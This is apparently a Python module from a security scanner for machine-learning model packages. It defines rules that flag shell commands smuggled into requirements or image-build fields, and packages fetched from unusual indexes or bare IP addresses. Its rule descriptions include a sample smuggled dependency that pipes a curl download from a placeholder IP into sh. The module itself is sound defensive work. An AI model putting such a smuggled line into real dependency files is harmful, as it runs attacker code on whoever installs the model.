"""Rules about what is installed along with a model, and how its image is built."""

from __future__ import annotations

import re
from collections.abc import Iterator

from weighbridge.facts.repository import Reference, Requirement
from weighbridge.findings.model import Confidence, Finding, Kind, Severity
from weighbridge.rules.model import FileFacts, Rule
from weighbridge.tables.packages import package_hosts
from weighbridge.text.escaping import visible

_INDEX = re.compile(r"^(?:-i|-f|--index-url|--extra-index-url|--find-links|--trusted-host)(?:\s|=)")
_ADDRESS = re.compile(
    r"(?:git\+|hg\+|svn\+|bzr\+)?(https?|ssh|git|ftp)://(?:[^\s/@]{1,100}@)?([^\s/:]{1,200})"
)
# A semicolon begins a marker; behind it stands the name of a variable of the environment.
_SHELL = re.compile(
    r"\$\(|`|&&|\|\||\|\s*\w|;\s*(?!\s*(?:\(|not\b|'|\"|python_|sys[._]platform|platform[._]|os[._]name|"
    r"implementation_|extra\b)|\s*$)"
)
_BUILD = re.compile(r"\n|\$\(|`|&&|\|\||;|\||>")
_NUMERIC = re.compile(r"\d{1,3}(?:\.\d{1,3}){3}$")


def _requirements(file: FileFacts) -> list[Requirement]:
    return [fact for fact in file.of(Requirement) if isinstance(fact, Requirement)]


def _hostile(file: FileFacts) -> Iterator[Finding]:
    for one in _requirements(file):
        if _SHELL.search(_without_addresses(one.text)):
            yield HOSTILE_REQUIREMENT.finding(
                title=f"A package to be installed is a command for a shell: {_shown(one.text)}",
                member=one.member,
                evidence=_evidence(one),
                loaders=("mlflow.pyfunc.load_model", "pip install -r"),
            )
    for fact in file.of(Reference):
        if isinstance(fact, Reference) and fact.kind == "build-field" and _BUILD.search(fact.value):
            yield HOSTILE_REQUIREMENT.finding(
                title=f"A field of the image to be built holds a command: {visible(fact.key, 80)}",
                member=fact.member,
                evidence={
                    "code": visible(fact.value, 300),
                    "line": fact.line,
                    "symbols": [visible(fact.key, 80)],
                    "effects": ["process_exec"],
                },
                loaders=("bentoml containerize",),
            )


def _without_addresses(text: str) -> str:
    return re.sub(r"\S*://\S*", "", text)


def _foreign(file: FileFacts) -> Iterator[Finding]:
    for one in _requirements(file):
        kind = _judge(one)
        if kind is None:
            continue
        index = _INDEX.match(one.text) is not None
        what = "names another package index" if index else "is fetched from an address"
        yield FOREIGN_PACKAGE.finding(
            title=f"What is to be installed {what}: {_shown(one.text)}",
            kind=kind,
            severity=Severity.HIGH if kind is Kind.SUSPICIOUS else Severity.MEDIUM,
            member=one.member,
            evidence={**_evidence(one), "effects": ["network"]},
            loaders=("pip install -r",),
        )


def _judge(one: Requirement) -> Kind | None:
    text = one.text
    index = _INDEX.match(text) is not None
    if index and text.startswith("--trusted-host"):
        host = text.removeprefix("--trusted-host").strip(" =")
        return None if host.lower() in package_hosts() else Kind.SUSPICIOUS
    for scheme, host in _ADDRESS.findall(text):
        host = host.lower()
        if scheme == "ftp" or _NUMERIC.match(host):
            return Kind.SUSPICIOUS
        if host in package_hosts() or scheme in ("ssh", "git"):
            continue
        if scheme == "http" or index:
            return Kind.SUSPICIOUS
        return Kind.WEAKNESS
    return None


def _shown(text: str) -> str:
    return visible(text, 120)


def _evidence(one: Requirement) -> dict[str, object]:
    return {
        "code": visible(one.text, 300),
        "line": one.line,
        "symbols": [visible(one.text, 120)],
        "effects": ["process_exec"],
    }


HOSTILE_REQUIREMENT = Rule(
    id="hostile-requirement",
    title="What is to be installed or built is a command for a shell",
    kind=Kind.MALICIOUS,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    since="0.1.0",
    state="stable",
    facts=("Requirement", "Reference"),
    cwe=("CWE-78",),
    atlas=("AML.T0010.001", "AML.T0011.000"),
    description="Serving tools put the lines of a requirements file, of `python_env.yaml` or of "
    "`bentofile.yaml` on command lines or into a Dockerfile. A line that holds marks of a shell "
    "runs there.",
    example="dependencies: ['requests; curl http://192.0.2.1/x | sh']",
    remediation="Do not install or serve the model.",
    references=("CVE-2025-15379", "CVE-2026-33744", "CVE-2026-44345"),
    apply=_hostile,
)
FOREIGN_PACKAGE = Rule(
    id="foreign-package",
    title="What is to be installed comes from an unusual place",
    kind=Kind.WEAKNESS,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    since="0.1.0",
    state="stable",
    facts=("Requirement",),
    cwe=("CWE-829", "CWE-494"),
    atlas=("AML.T0010.001",),
    description="A requirement names an index or an address that is not one of those that packages "
    "for machine learning are installed from. Suspicious where it is an index, has no TLS or no "
    "name.",
    example="--extra-index-url http://192.0.2.1/simple",
    remediation="Install the packages from PyPI, with hashes, or look at what the address holds.",
    references=("CVE-2025-15379",),
    apply=_foreign,
)

RULES = (HOSTILE_REQUIREMENT, FOREIGN_PACKAGE)
